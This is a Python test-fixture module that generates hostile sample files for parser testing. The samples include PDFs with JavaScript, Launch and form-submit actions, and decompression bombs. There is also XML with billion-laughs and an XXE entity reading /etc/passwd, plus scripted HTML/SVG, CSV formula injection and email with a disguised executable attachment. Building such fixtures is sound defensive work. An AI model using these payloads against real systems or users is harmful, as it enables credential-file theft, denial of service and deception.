"""Hostile PDFs and documents made of letters, built by hand."""

import base64
import io
import zlib

CATALOGUE = b"<</Type/Catalog/Pages 2 0 R%s>>"
PAGES = b"<</Type/Pages/Count 1/Kids[3 0 R]>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>%s>>"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


def stream(content, told=b""):
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (told, len(content), content)


def pdf(*objects, trailer=b"/Root 1 0 R"):
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    at = len(out)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Size %d%s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(places) + 1, table, len(places) + 1, trailer, at,
    )  # fmt: skip
    return bytes(out)


def one_page(catalogue=b"", page=b"", drawn=b"1 0 0 rg 10 10 100 100 re f", *more):
    return pdf(CATALOGUE % catalogue, PAGES, PAGE % page, stream(drawn), *more)


def encrypted_pdf():
    from pypdf import PdfWriter

    writer, out = PdfWriter(), io.BytesIO()
    writer.add_blank_page(200, 200)
    writer.encrypt("secret", algorithm="RC4-128")
    writer.write(out)
    return out.getvalue()


def pdf_with_metadata():
    from pypdf import PdfWriter

    writer, out = PdfWriter(), io.BytesIO()
    writer.add_blank_page(200, 300)
    writer.add_metadata({"/Author": "Invented Author", "/Title": "Invented Title", "/Producer": "Invented Producer"})
    writer.add_attachment("inside.txt", b"hidden inside")
    writer.write(out)
    return out.getvalue()


def pdfs():
    yield "plain.pdf", one_page()
    yield "script.pdf", one_page(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>")
    yield "launch.pdf", one_page(b"/OpenAction<</S/Launch/F(calc.exe)>>")
    yield "form.pdf", one_page(b"/AcroForm<</Fields[]/XFA(x)>>", b"/AA<</O<</S/SubmitForm/F(http://192.0.2.1/)>>>>")
    yield "link.pdf", one_page(b"/OpenAction<</S/URI/URI(http://192.0.2.1/)>>")
    yield "encrypted.pdf", encrypted_pdf()
    yield "metadata.pdf", pdf_with_metadata()
    yield "cut.pdf", one_page()[:200]
    yield "headless.pdf", one_page()[9:]
    yield "no-pages.pdf", pdf(CATALOGUE % b"", b"<</Type/Pages/Count 0/Kids[]>>")
    yield "own-parent.pdf", pdf(CATALOGUE % b"", b"<</Type/Pages/Count 9/Kids[2 0 R 2 0 R]>>")
    yield (
        "draws-itself.pdf",
        one_page(
            b"",
            b"",
            b"/X Do",
            stream(b"/X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>"),
        ),
    )
    yield (
        "many-pages.pdf",
        pdf(CATALOGUE % b"", b"<</Type/Pages/Count 100000/Kids[%s]>>" % (b"3 0 R " * 100_000), PAGE % b"", stream(b"")),
    )
    yield "huge-page.pdf", one_page(b"", b"/UserUnit 1000").replace(b"[0 0 300 200]", b"[0 0 9999999 9999999]")
    yield "thin-page.pdf", one_page().replace(b"[0 0 300 200]", b"[0 0 0.001 99999]")
    yield "no-size.pdf", one_page().replace(b"[0 0 300 200]", b"[0 0 0 0]")
    yield "long-stream.pdf", one_page().replace(b"/Length 27", b"/Length 20000000000")
    yield (
        "bomb.pdf",
        one_page(b"", b"", b"").replace(
            stream(b""), stream(zlib.compress(bytes(60_000_000), 9), b"/Filter/FlateDecode")
        ),
    )
    yield (
        "twice-packed.pdf",
        one_page(b"", b"", b"").replace(
            stream(b""), stream(zlib.compress(zlib.compress(bytes(30_000_000))), b"/Filter[/FlateDecode/FlateDecode]")
        ),
    )
    yield "deep.pdf", one_page(b"/X " + b"[" * 50_000 + b"]" * 50_000)
    yield "deep-drawing.pdf", one_page(b"", b"", b"q " * 100_000)
    yield (
        "wide-picture.pdf",
        one_page(
            b"",
            b"",
            b"/X Do",
            stream(
                b"x", b"/Type/XObject/Subtype/Image/Width 100000/Height 100000/ColorSpace/DeviceRGB/BitsPerComponent 8"
            ),
        ),
    )
    yield "bad-table.pdf", one_page().replace(b"startxref\n", b"startxref\n9")


def letters():
    yield "script.html", b"<!doctype html><html><script>fetch('http://192.0.2.1/')</script><p>Words to read</p></html>"
    yield (
        "page.xhtml",
        b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>x</script><p>Words</p></html>',
    )
    yield (
        "page.mhtml",
        b"From: x\r\nSubject: y\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<script>1</script>Words\r\n--b--",
    )
    yield (
        "script.svg",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><foreignObject><p>hi</p></foreignObject></svg>',
    )
    yield "laughs.xml", f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]><x>&l9;</x>'.encode()
    yield "outside.xml", b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    yield "parameter.xml", b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % e SYSTEM "http://192.0.2.1/x.dtd">%e;]><x/>'
    yield "deep.xml", b'<?xml version="1.0"?>' + b"<a>" * 100_000 + b"</a>" * 100_000
    yield "long.xml", b'<?xml version="1.0"?><a>' + b"x" * 3_000_000 + b"</a>"
    yield "place.kml", b'<?xml version="1.0"?><kml><Placemark><name>A place</name></Placemark></kml>'
    yield "deep.html", b"<!doctype html>" + b"<div>" * 200_000 + b"deep"
    yield "unclosed.html", b"<!doctype html><p " + b"a=" * 100_000
    yield "letter.rtf", rb"{\rtf1{\object\objocx{\*\objdata 0105000002000000}}Words}"
    yield "macro.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096)
    yield "formulas.csv", b'name;sum\r\n=1+1;+2\r\n@SUM(A1);-3\r\n=HYPERLINK("http://192.0.2.1");5,5\r\n'
    yield "nul.csv", b"a,b\r\n1\0,2\r\n" * 50
    yield "wide.csv", b",".join([b"1"] * 20_000) + b"\n" + b",".join([b"2"] * 20_000) + b"\n"
    yield "quotes.csv", b'a;b\n"' + b"x" * 2_000_000 + b"\n"
    yield "russian.txt", "Его избили третьего мая.\n".encode("cp1251") * 20
    yield "wide.txt", "Письмо".encode("utf-16")
    yield "turned.txt", "invoice\u202efdp.exe\u200b \U000e0041 раyment\n".encode()
    yield "floods.txt", ("a" + "\u0301" * 10_000).encode() * 5
    yield "empty.txt", b""
    yield "half.txt", "Привет".encode()[:-1]
    yield "message.eml", message()
    yield "deep.eml", deep_message()
    yield "fields.eml", b"From: a\r\nTo: b\r\nSubject: " + b"=?utf-8?B?" + b"A" * 60_000 + b"?=\r\n\r\nx"
    yield (
        "bad-charset.eml",
        b"From: a\r\nTo: b\r\nSubject: c\r\nContent-Type: text/plain; charset=nonsense\r\n\r\n\xff\xfe",
    )
    yield (
        "bad-name.eml",
        b"From: a\r\nTo: b\r\nSubject: c\r\nMIME-Version: 1.0\r\nContent-Type: x/y; name*=utf-8''%ff%00..%2f\r\n\r\nx",
    )
    yield "chat.mbox", b"From x Mon Jan 1 00:00:00 2020\nSubject: a\n\n>From the start\n" * 200


def message():
    inside = base64.b64encode(b"MZ" + bytes(500))
    return (
        b"Received: from x\r\nFrom: Invented <a@example.org>\r\nTo: b@example.org\r\nSubject: =?utf-8?B?0J/QuNGB0YzQvNC+?=\r\n"
        b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n"
        b"<img src=http://192.0.2.1/x><script>1</script><p>Words of the letter</p>\r\n--b\r\n"
        b'Content-Type: application/octet-stream; name="x.exe"\r\nContent-Disposition: attachment; filename="photo\xe2\x80\xaegpj.exe"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\n" + inside + b"\r\n--b--\r\n"
    )


def deep_message():
    head = b"From: a\r\nTo: b\r\nSubject: c\r\nMIME-Version: 1.0\r\n"
    return head + b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n) for n in range(300))
